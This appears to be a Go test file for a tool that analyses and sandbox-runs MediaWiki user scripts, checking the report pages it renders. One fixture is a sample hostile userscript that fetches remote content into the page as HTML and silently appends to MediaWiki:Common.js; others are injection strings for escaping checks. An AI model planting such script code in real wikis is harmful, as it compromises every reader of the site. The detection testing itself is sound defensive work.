package web

import (
	"context"
	"encoding/json"
	"fmt"
	"html"
	"net/http"
	"net/url"
	"strings"
	"testing"
	"time"

	"sallyport/internal/capability"
	"sallyport/internal/finding"
	"sallyport/internal/mediawiki"
	"sallyport/internal/risk"
	"sallyport/internal/rule"
	"sallyport/internal/store"
	"sallyport/internal/trace"
	"sallyport/internal/wiki"
)

// library is the village's scripts and what is known of them.
type library struct {
	texts    map[string]string
	results  []store.Result
	failures []store.Failure
	broken   error
}

func (l *library) Newest(_ context.Context, t wiki.Title) (wiki.Page, error) {
	title := villageSite().PrefixedText(t)
	text, ok := l.texts[title]
	model := wiki.ModelJavaScript
	for suffix, other := range map[string]string{".css": wiki.ModelCSS, ".json": wiki.ModelJSON, "talk": wiki.ModelWikitext} {
		if strings.HasSuffix(title, suffix) {
			model = other
		}
	}
	p := wiki.Page{Title: t, Text: text, Model: model, Author: "Mara", Rev: 77, Touched: today}
	if ok {
		p.ID = 700
	}
	return p, l.broken
}

func (l *library) Results(_ context.Context, _ string, d store.Digest) (found []store.Result, err error) {
	for _, r := range l.results {
		if r.SHA256 == d {
			found = append(found, r)
		}
	}
	return found, nil
}

func (l *library) FailuresOf(_ context.Context, _ string, d store.Digest) (found []store.Failure, err error) {
	for _, f := range l.failures {
		if f.SHA256 == d {
			found = append(found, f)
		}
	}
	return found, nil
}

func (l *library) job(kind, title string) store.Job {
	return store.Job{Kind: kind, SHA256: store.DigestOf(l.texts[title]), Wiki: "villagewiki", Path: title, Version: "v1.2"}
}

func (l *library) keep(kind, title string, body any) {
	text, err := json.Marshal(body)
	if err != nil {
		panic(err)
	}
	l.results = append(l.results, store.Result{Job: l.job(kind, title), Body: string(text), Made: today.Add(time.Minute)})
}

// strange is a name with everything in it that a title may have and that could go wrong in a page or an address.
const strange = `A"b=c'&d?e+f עדה`

const translate = `// ask another site for words
mw.hook( 'wikipage.content' ).add( function ( $c ) {
	$.getJSON( 'https://words.example/ask?q=' + location.hash, function ( a ) { $c.html( a.text ); } );
} );
new mw.Api().postWithToken( 'csrf', { action: 'edit', title: 'MediaWiki:Common.js', appendtext: 'x' } );`

// newLibrary has a script that was read and run, one that waits, one set aside, a style sheet, and one with a strange name.
func newLibrary() *library {
	hostileName := "User:" + strange + "/" + strange + ".js"
	l := &library{texts: map[string]string{
		"User:Mara/translate.js": translate, "User:Mara/translate.css": "a { color: red }", "User:Ira/footnotes.js": "// waits",
		"MediaWiki:Gadget-lib.js": "lib();", hostileName: "strange();", "User:Ira/words.json": "{}", "User:Ira/talk": "no code",
	}}
	l.keep("scan", "User:Mara/translate.js", rule.Analyse("User:Mara/translate.js", []byte(translate)))
	l.keep("scan", "User:Mara/translate.css", &finding.Script{Path: "User:Mara/translate.css"})
	l.keep("scan", "User:Ira/words.json", &finding.Script{Path: "User:Ira/words.json"})
	report := &trace.Report{
		Path: "User:Mara/translate.js", Verdict: trace.Hostile, Reasons: []string{"It changes code that runs for everybody, without being asked."},
		Coverage: 0.75,
		Hosts:    []trace.HostRow{{Host: "words.example", How: "fetch", When: "on load"}, {Host: "late.example", How: "image", When: "on a timer"}},
		Findings: []trace.Finding{{Rule: "site-code", Severity: finding.Critical, Message: "writes MediaWiki:Common.js as sysop", Line: 5, Stage: trace.Natural}},
		Capabilities: []trace.Capability{
			{Capability: capability.Capability{Name: capability.WriteSiteCode, Target: "MediaWiki:Common.js", Certainty: capability.Certain, Trigger: capability.OnLoad}, Stage: trace.Natural},
			{Capability: capability.Capability{Name: capability.Network, Target: "late.example", How: "image", Certainty: capability.Certain}, Stage: trace.Clock},
		},
		Story: []trace.Scene{
			{Stage: trace.Natural, Personas: []string{"sysop", "interface admin"}, Pages: []string{"an article"}, Acts: []string{"appends to MediaWiki:Common.js", "asks https://words.example/ask?q=" + strings.Repeat("long", 40)}},
			{Stage: trace.Forced, Personas: []string{"steward"}, Pages: []string{"watchlist"}, Gate: &trace.Turned{Text: "mw.config.get( 'wgUserName' ) === 'Ira'", Line: 9}, Acts: []string{"does nothing more"}},
		},
	}
	report.Visits.Runs = 11
	l.keep("detonate", "User:Mara/translate.js", &trace.Document{Isolation: "A", Runs: []*trace.Report{report}})
	l.keep("scan", "MediaWiki:Gadget-lib.js", &finding.Script{Path: "MediaWiki:Gadget-lib.js"})
	l.failures = append(l.failures, store.Failure{Job: l.job("detonate", "MediaWiki:Gadget-lib.js"), Reason: "3 workers began it and none came back with an answer", Tries: 3, Failed: today})
	l.keep("scan", hostileName, &finding.Script{Path: hostileName, Findings: []finding.Finding{{Rule: "x", Severity: finding.Low, Message: hostile, Advice: hostile}}})
	l.keep("detonate", hostileName, &trace.Document{Runs: []*trace.Report{{
		Verdict: trace.Unknown, Reasons: []string{hostile}, Hosts: []trace.HostRow{{Host: hostile, When: hostile}},
		Capabilities: []trace.Capability{{Capability: capability.Capability{Name: capability.Network, Target: hostile}}},
		Story:        []trace.Scene{{Stage: trace.Natural, Personas: []string{hostile}, Pages: []string{hostile}, Acts: []string{hostile}, Gate: &trace.Turned{Text: hostile}}},
	}}})
	return l
}

func withScripts(o *Options) {
	l := newLibrary()
	o.Scripts = &Scripts{Newest: l.Newest, Known: l, Run: true}
}

func scriptPath(title string) string { return "/sallyport/script/" + url.PathEscape(title) }

func TestThePageOfAScriptSaysWhatIsKnownOfItAndHow(t *testing.T) {
	s := newSetting(t, withScripts)
	body := s.get("/sallyport/script/User:Mara/translate.js").Body.String()
	for _, want := range []string{
		"<bdi>User:Mara/translate.js</bdi>", "Hostile", "run 11 times", "contacts 2 other sites",
		"can change code that runs for everybody (<bdi>MediaWiki:Common.js</bdi>)", ">both<", ">its text<", ">running it<",
		"Risk: ", ">Severe<", "nobody knows who runs it", "What would lower it", "ask the reader before it does this: ",
		"line 5", "the answer of another host arrives here", "$.getJSON( &#39;https://words.example/ask", "writes MediaWiki:Common.js as sysop", "appends to MediaWiki:Common.js", "Only if this is turned round:",
		"late.example", "75 % of its functions ran", "isolation <bdi>A</bdi>", "Critical", "v1.2", "/w/index.php?", "translate.js.json",
	} {
		if !strings.Contains(body, want) {
			t.Errorf("the page lacks %q", want)
		}
	}
	if t.Failed() {
		t.Log(body)
	}
}

func TestThePageOfAScriptSaysWhereItsAnalysesStand(t *testing.T) {
	s := newSetting(t, withScripts)
	for title, want := range map[string][]string{
		"User:Ira/footnotes.js":   {"Nothing is known of this revision yet", "will be listed here"},
		"MediaWiki:Gadget-lib.js": {"Set aside", "3 workers began it", "--retry"},
		"User:Mara/translate.css": {"No finding.", "It was not run"},
		"User:Ira/words.json/":    {"<bdi>User:Ira/words.json</bdi>", `script/User:Ira/words.json.json"`},
	} {
		body := s.get(scriptPath(title)).Body.String()
		for _, w := range want {
			if !strings.Contains(body, w) {
				t.Errorf("the page of %s lacks %q: %s", title, w, body)
			}
		}
	}
	for _, title := range []string{"User:Ira/nobody.js", "User:Ira/talk", "Main Page", "Talk:x.js", "<>"} {
		if w := s.get(scriptPath(title)); w.Code != http.StatusNotFound || !strings.Contains(w.Body.String(), "There is no such script") {
			t.Errorf("%q is answered with %d", title, w.Code)
		}
	}
}

func TestThePageOfAScriptIsThereAsData(t *testing.T) {
	s := newSetting(t, withScripts)
	var about struct {
		Schema, Title, SHA256 string
		Scan, Detonate        struct{ State, Reason, Made string }
		Read                  *finding.Script
		Run                   struct{ Runs []*trace.Report }
		Capabilities          []struct{ Name, Seen string }
		Risk                  risk.Assessment
	}
	if err := json.Unmarshal(s.get("/sallyport/script/User:Mara/translate.js.json").Body.Bytes(), &about); err != nil {
		t.Fatal(err)
	}
	if about.Schema != "sallyport/script/1" || about.Title != "User:Mara/translate.js" || about.SHA256 != string(store.DigestOf(translate)) ||
		about.Scan.State != "done" || about.Detonate.State != "done" || about.Detonate.Made == "" || about.Read == nil ||
		about.Risk.Level != risk.Severe || len(about.Run.Runs) != 1 || about.Run.Runs[0].Verdict != trace.Hostile || len(about.Capabilities) < 3 {
		t.Errorf("the data is %+v", about)
	}
	about.Read = nil
	if err := json.Unmarshal(s.get("/sallyport/script/MediaWiki:Gadget-lib.js.json").Body.Bytes(), &about); err != nil {
		t.Fatal(err)
	}
	if about.Detonate.State != "aside" || !strings.Contains(about.Detonate.Reason, "3 workers") {
		t.Errorf("the data is %+v", about.Detonate)
	}
}

func TestNothingAScriptIsCalledOrSaysActsInItsPage(t *testing.T) {
	s := newSetting(t, withScripts)
	w := s.get(scriptPath("User:" + strange + "/" + strange + ".js"))
	body := w.Body.String()
	if w.Code != http.StatusOK || !strings.Contains(body, "Unknown") {
		t.Fatalf("%d: %s", w.Code, body)
	}
	for _, bad := range []string{"<script", `"b=`, "\u202e"} {
		if strings.Contains(body, bad) {
			t.Errorf("the page has %q", bad)
		}
	}
}

func TestAGadgetsPageLeadsToItsScripts(t *testing.T) {
	s := newSetting(t, withScripts)
	body := s.get("/sallyport/gadget/p1").Body.String()
	for _, want := range []string{`href="/sallyport/script/User:Mara/translate.js"`, `href="/sallyport/script/User:Ira/words.json/"`} {
		if !strings.Contains(body, want) {
			t.Errorf("the gadget's page lacks %s", want)
		}
	}
	if body := newSetting(t).get("/sallyport/gadget/p1").Body.String(); strings.Contains(body, "/script/") {
		t.Error("a gadget's page leads to pages that are not there")
	}
}

func TestAWikiThatIsDownIsSaidOnThePageOfAScript(t *testing.T) {
	l := newLibrary()
	s := newSetting(t, func(o *Options) { o.Scripts = &Scripts{Newest: l.Newest, Known: l} })
	l.broken = fmt.Errorf("ask: %w", mediawiki.ErrUnavailable)
	if w := s.get("/sallyport/script/User:Mara/translate.js"); w.Code != http.StatusServiceUnavailable {
		t.Errorf("it answers %d", w.Code)
	}
	l.broken = nil
	if body := s.get("/sallyport/script/User:Ira/footnotes.js.json").Body.String(); !strings.Contains(body, `"state": "never"`) {
		t.Errorf("a wiki that runs nothing says %s", body)
	}
}

func TestTheTitleOfAWindowIsPlainText(t *testing.T) {
	s := newSetting(t, withScripts)
	for _, path := range []string{"/sallyport/script/User:Mara/translate.js", "/sallyport/gadget/p6", "/sallyport/user/Ira"} {
		_, title, _ := strings.Cut(s.get(path).Body.String(), "<title>")
		title, _, _ = strings.Cut(title, "</title>")
		if title = html.UnescapeString(title); strings.Contains(title, "<bdi>") || strings.Contains(title, "\u202e") || !strings.HasSuffix(title, " – Village wiki") {
			t.Errorf("%s is titled %q", path, title)
		}
	}
}
